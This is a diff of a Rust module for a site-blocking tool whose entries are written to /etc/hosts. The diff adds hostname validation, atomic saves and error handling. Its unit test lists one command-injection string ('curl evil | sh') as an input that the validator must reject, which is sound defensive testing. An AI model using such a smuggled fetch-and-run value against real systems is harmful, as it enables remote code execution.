@@ -1,26 +1,32 @@
-use std::{collections::HashSet, env, fs::OpenOptions, io::{BufReader, Write}, path::Path};
+use std::{collections::HashSet, io, path::Path};
 use tokio::fs;
-use serde::{Serialize, Deserialize};
-use serde_json::{self, Error};
 
+use crate::config::{data_file, ValidationError};
+
+/// Longitud máxima de un nombre de dominio
+pub const MAX_HOSTNAME_LEN: usize = 253;
 
 pub fn blocked_sites_path() -> String {
-  if is_debug() {
-      // En desarrollo, usar archivo local
-      "blocked_sites.json".to_string()
-  } else if let Some(proj_dir) = dirs::config_dir() {
-      // En producción, usar ruta del sistema
-      let full_path = proj_dir.join("global_pomodoro");
-      std::fs::create_dir_all(&full_path).ok(); // asegurarse de que el dir exista
-      full_path.join("blocked_sites.json").to_string_lossy().to_string()
-  } else {
-      // Fallback
-      "blocked_sites.json".to_string()
-  }
+  data_file("blocked_sites.json")
 }
 
-fn is_debug() -> bool {
-  cfg!(debug_assertions) || env::var("DEV_MODE").is_ok()
+/// Las webs acaban en una línea de `/etc/hosts` escrita con `sudo`: solo se
+/// admiten nombres de dominio (letras, dígitos, `.` y `-`, sin `-` inicial).
+pub fn is_hostname(site: &str) -> bool {
+  !site.is_empty()
+      && site.len() <= MAX_HOSTNAME_LEN
+      && !site.starts_with('-')
+      && site.chars().all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
+}
+
+pub fn validate_url(url: &str) -> Result<(), ValidationError> {
+  if !is_hostname(url) {
+      return Err(ValidationError {
+          field: "url",
+          message: format!("must be a host name of at most {} letters, digits, '.' or '-'", MAX_HOSTNAME_LEN),
+      });
+  }
+  Ok(())
 }
 
 pub async fn read_urls() -> HashSet<String> {
@@ -32,30 +38,43 @@ pub async fn read_urls() -> HashSet<String> {
   serde_json::from_str(&content).unwrap_or_default()
 }
 
-pub async fn save_urls(urls: &HashSet<String>) {
+pub async fn save_urls(urls: &HashSet<String>) -> io::Result<()> {
+  let tmp_path = stage_urls(urls).await?;
+  fs::rename(&tmp_path, &blocked_sites_path()).await
+}
+
+/// Escribe la lista en un fichero temporal junto al definitivo y devuelve su
+/// ruta; el llamador decide cuándo renombrarlo.
+pub async fn stage_urls(urls: &HashSet<String>) -> io::Result<String> {
   let list: Vec<&String> = urls.iter().collect();
-  let json = serde_json::to_string_pretty(&list).unwrap();
-  fs::write(&blocked_sites_path(), json).await.unwrap();
+  let json = serde_json::to_string_pretty(&list)?;
+  let tmp_path = format!("{}.tmp", blocked_sites_path());
+  fs::write(&tmp_path, json).await?;
+  Ok(tmp_path)
 }
 
-pub async fn add_url(new_url: &str) {
+pub async fn add_url(new_url: &str) -> io::Result<()> {
+  validate_url(new_url).map_err(|e| io::Error::new(io::ErrorKind::InvalidInput, e.to_string()))?;
   let mut urls = read_urls().await;
   if urls.insert(new_url.to_string()) {
-      save_urls(&urls).await;
+      save_urls(&urls).await?;
       println!("✅ URL añadida: {}", new_url);
   } else {
       println!("⚠️  La URL ya existe: {}", new_url);
   }
+  Ok(())
 }
 
-pub async fn remove_url(target: &str) {
+pub async fn remove_url(target: &str) -> io::Result<()> {
+  validate_url(target).map_err(|e| io::Error::new(io::ErrorKind::InvalidInput, e.to_string()))?;
   let mut urls = read_urls().await;
   if urls.remove(target) {
-      save_urls(&urls).await;
+      save_urls(&urls).await?;
       println!("🗑️  URL eliminada: {}", target);
   } else {
       println!("❌ URL no encontrada: {}", target);
   }
+  Ok(())
 }
 
 pub async fn list_urls() -> Result<Vec<String>, Box<dyn std::error::Error>> {
@@ -63,3 +82,19 @@ pub async fn list_urls() -> Result<Vec<String>, Box<dyn std::error::Error>> {
   let urls_vec: Vec<String> = urls.into_iter().collect();
   Ok(urls_vec)
 }
+
+#[cfg(test)]
+mod tests {
+  use super::*;
+
+  #[test]
+  fn only_host_names_are_accepted() {
+      assert!(is_hostname("www.youtube.com"));
+      assert!(is_hostname("xn--bcher-kva.example"));
+      for site in ["", "-x.com", "x'; curl evil | sh; echo '", "x.com/path", "x .com", "ñ.com"] {
+          assert!(!is_hostname(site), "{:?}", site);
+      }
+      assert!(!is_hostname(&"a".repeat(MAX_HOSTNAME_LEN + 1)));
+      assert_eq!(validate_url("a/b").unwrap_err().field, "url");
+  }
+}